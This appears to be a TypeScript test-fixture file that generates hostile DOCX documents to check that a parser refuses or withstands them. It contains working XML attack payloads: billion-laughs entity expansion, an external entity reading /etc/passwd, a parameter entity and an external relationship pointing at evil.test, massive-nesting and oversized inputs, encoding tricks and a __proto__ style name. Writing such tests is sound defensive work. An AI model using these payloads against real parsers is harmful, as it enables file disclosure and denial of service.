import type { HostileFile } from "./hostile-file.ts";
import {
  contentTypes,
  documentOf,
  docxParts,
  docxWith,
  line,
  paragraph,
  relationship,
  relationshipsOf,
} from "./plain-docx.ts";
import { writeZip } from "./write-zip.ts";

const laughs = `<!DOCTYPE x [<!ENTITY a "ha">${Array.from(
  { length: 20 },
  (_, index) => `<!ENTITY ${letter(index + 1)} "${`&${letter(index)};`.repeat(10)}">`,
).join("")}]>`;

function letter(index: number): string {
  return String.fromCodePoint(97 + index);
}

const external = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>';
const parameter = '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://evil.test/x.dtd"> %a;]>';

/** Not packed: how well these pack would be what they are refused for. */
const body = (text: string, head = "") =>
  writeZip(
    docxParts({ "word/document.xml": documentOf(text, head) }).map((part) => ({
      ...part,
      method: 0,
    })),
  );
const withBody = (name: string, text: () => string, head = ""): HostileFile => ({
  name,
  make: () => body(text(), head),
});

const nest = (tag: string, depth: number, inner = "") =>
  `<${tag}>`.repeat(depth) + inner + `</${tag}>`.repeat(depth);
const nestedTables = (depth: number) =>
  "<w:tbl><w:tr><w:tc>".repeat(depth) + paragraph(line) + "</w:tc></w:tr></w:tbl>".repeat(depth);
const run = "<w:r><w:t>a</w:t></w:r>";
const styles = (text: string) => docxWith({ "word/styles.xml": `<w:styles>${text}</w:styles>` });

export const xmlFiles: readonly HostileFile[] = [
  withBody("a billion laughs", () => paragraph("&u;"), laughs),
  withBody("a hundred thousand nested elements", () => nest("w:x", 100_000)),
  {
    name: "entities among its relationships",
    make: () => docxWith({ "word/_rels/document.xml.rels": laughs + relationshipsOf("") }),
    refusedAs: "unsafe",
  },
  withBody("an entity from a file", () => paragraph("&a;"), external),
  withBody("a table of entities from elsewhere", () => paragraph("&a;"), parameter),
  withBody("one entity a million times", () => paragraph("&a;".repeat(1_000_000)), laughs),
  withBody("an entity that nobody declared", () => paragraph("&a;")),
  {
    name: "entities in its list of kinds",
    make: () => docxWith({ "[Content_Types].xml": laughs + contentTypes() }),
    refusedAs: "unsafe",
  },
  {
    name: "entities in its styles",
    make: () => docxWith({ "word/styles.xml": `${laughs}<w:styles/>` }),
  },
  {
    name: "entities in its header",
    make: () => docxWith({ "word/header1.xml": `${laughs}<w:hdr/>` }),
  },
  {
    name: "entities in another encoding",
    make: () =>
      docxWith({
        "word/document.xml": Buffer.from(`\uFEFF${documentOf("&u;", laughs)}`, "utf16le"),
      }),
  },
  {
    name: "relationships in another encoding",
    make: () =>
      docxWith({
        "word/_rels/document.xml.rels": Buffer.from(
          relationshipsOf(relationship("image", "http://evil.test/x", 'TargetMode="External"')),
          "utf16le",
        ),
      }),
    refusedAs: "unsafe",
  },
  {
    name: "relationships in UTF-7",
    make: () =>
      docxWith({ "word/_rels/document.xml.rels": '<?xml version="1.0" encoding="UTF-7"?><a/>' }),
    refusedAs: "unsafe",
  },
  {
    name: "relationships nested a hundred thousand deep",
    make: () => docxWith({ "word/_rels/document.xml.rels": nest("a", 100_000) }),
    refusedAs: "too_large",
  },
  withBody("a thousand nested tables", () => nestedTables(1_000)),
  withBody("twenty thousand nested tables", () => nestedTables(20_000)),
  withBody("four thousand nested paragraphs", () => nest("w:p", 4_000, run)),
  withBody("nested texts that older readers take", () => nest("mc:Fallback", 100_000)),
  withBody("a million runs", () => `<w:p>${run.repeat(1_000_000)}</w:p>`),
  withBody("four hundred thousand runs", () => `<w:p>${run.repeat(400_000)}</w:p>`),
  withBody("a million tabs", () => `<w:p><w:r>${"<w:tab/>".repeat(1_000_000)}</w:r></w:p>`),
  withBody("a million line ends", () => `<w:p><w:r>${"<w:br/>".repeat(1_000_000)}</w:r></w:p>`),
  withBody("4,999 long paragraphs", () => paragraph(line.repeat(40)).repeat(4_999)),
  withBody(
    "a hundred thousand cells",
    () => `<w:tbl><w:tr>${"<w:tc><w:tcPr/></w:tc>".repeat(100_000)}</w:tr></w:tbl>`,
  ),
  withBody(
    "a hundred thousand rows",
    () => `<w:tbl>${"<w:tr><w:tc/></w:tr>".repeat(100_000)}</w:tbl>`,
  ),
  withBody("a hundred thousand links", () => '<w:hyperlink r:id="r1"/>'.repeat(100_000)),
  withBody("an attribute of 5 MB", () => `<w:p w:x="${"a".repeat(5_000_000)}"/>`),
  withBody("a hundred thousand attributes", () => `<w:p ${attributes(100_000)}/>`),
  withBody("the same attribute twice", () => '<w:p w:x="1" w:x="2"/>'),
  withBody("a name of 5 MB", () => `<${"a".repeat(5_000_000)}/>`),
  withBody("one word of 10 MB", () => paragraph("a".repeat(10_000_000))),
  withBody("one line of 5 MB", () => paragraph(`${line} `.repeat(60_000))),
  withBody("a comment of 15 MB", () => `<!--${"a".repeat(15_000_000)}-->`),
  withBody("a raw section of 10 MB", () => `<w:p><![CDATA[${"<".repeat(10_000_000)}]]></w:p>`),
  withBody("an instruction of 5 MB", () => `<?a ${"a".repeat(5_000_000)}?>`),
  withBody("letters that are none", () => paragraph("&#xD800;&#99999999;&#0;")),
  {
    name: "bytes that are no letters",
    make: () =>
      docxWith({ "word/document.xml": Buffer.from("<a>\u00C3\u0028\u00FF</a>", "latin1") }),
  },
  withBody("sizes that are no numbers", () =>
    `<w:p><w:pPr><w:ind w:left="1e999"/></w:pPr><w:r><w:rPr><w:sz w:val="NaN"/></w:rPr><w:t>${line}</w:t></w:r></w:p>`.repeat(
      9,
    ),
  ),
  withBody("ends that were never begun", () => "</w:p></w:tbl></w:tc>"),
  { name: "nothing as its text", make: () => docxWith({ "word/document.xml": "" }) },
  {
    name: "styles that are based on each other",
    make: () => styles(basedOn(1, 2) + basedOn(2, 1)),
  },
  { name: "a style that is based on itself", make: () => styles(basedOn(1, 1)) },
  { name: "twenty thousand styles, each based on the next", make: () => styles(chain(20_000)) },
  {
    name: "styles named as what every object has",
    make: () => styles(basedOn("__proto__", "constructor")),
  },
];

function attributes(count: number): string {
  return Array.from({ length: count }, (_, index) => `w:a${index}="1"`).join(" ");
}

function basedOn(id: number | string, base: number | string): string {
  return `<w:style w:type="paragraph" w:styleId="${id}"><w:basedOn w:val="${base}"/></w:style>`;
}

function chain(length: number): string {
  return Array.from({ length }, (_, index) => basedOn(index, index + 1)).join("");
}
